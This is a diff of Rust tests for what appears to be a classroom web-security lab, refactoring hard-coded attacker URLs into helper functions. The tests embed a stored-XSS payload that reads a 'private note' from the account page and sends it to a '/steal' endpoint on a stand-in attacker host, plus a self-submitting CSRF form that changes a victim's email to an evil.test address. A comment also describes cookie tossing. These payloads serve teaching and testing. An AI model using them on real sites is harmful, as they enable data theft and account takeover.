@@ -50,8 +50,8 @@ fn payload(student: &Student) -> String {
     format!(
         "Lovely lab! <script>fetch('/account').then(r => r.text()).then(page => {{ \
          const at = page.indexOf('private note'); \
-         new Image().src = 'http://{}.attacker.localhost:{}/steal?n=' + encodeURIComponent(page.slice(at, at + 60)); }});</script>",
-        student.name, student.port
+         new Image().src = '{}' + encodeURIComponent(page.slice(at, at + 60)); }});</script>",
+        student.cross_site("/steal?n=")
     )
 }
 
@@ -106,7 +106,7 @@ async fn a_guestbook_payload_of_the_students_own_steals_the_note_from_insecure_o
 }
 
 /// Cookie tossing in real Chromium: the student's sibling host sets
-/// `Domain=NAME.localhost`, which Chromium accepts because `NAME.localhost`
+/// `Domain=LABEL.localhost`, which Chromium accepts because `LABEL.localhost`
 /// is a registrable domain (docs/classroom.md, "Host names"), and the app
 /// adopts the tossed ID, which it never issued, and keeps it at alice's
 /// login: fixation-invented (an issued ID tossed is fixation-cookie,
@@ -147,18 +147,16 @@ async fn csrf_in_chromium(profile: Profile) -> (Option<String>, bool, String) {
     let address = format!("ann-{}@evil.test", rand::random::<u32>());
     // Written by hand, as a student would: a form that posts itself on arrival.
     let page = format!(
-        "<!DOCTYPE html><title>You won!</title><form method=\"POST\" action=\"http://app.ann.localhost:{}/account/email\">\
+        "<!DOCTYPE html><title>You won!</title><form method=\"POST\" action=\"{}\">\
          <input type=\"hidden\" name=\"email\" value=\"{address}\"></form>\
          <script>document.forms[0].submit()</script>",
-        student.port
+        student.app("/account/email")
     );
     let saved = student
         .hub_post("/lab/page", &[("html", page.as_str())])
         .await;
     assert_eq!(saved.status(), StatusCode::SEE_OTHER);
-    student
-        .message_alice(&format!("http://ann.attacker.localhost:{}/", student.port))
-        .await;
+    student.message_alice(&student.cross_site("/")).await;
     student.send_alice(false).await;
     let email = class.class.lab("ann").unwrap().app.handle.email("alice");
     let changed = email.as_deref() == Some(address.as_str());
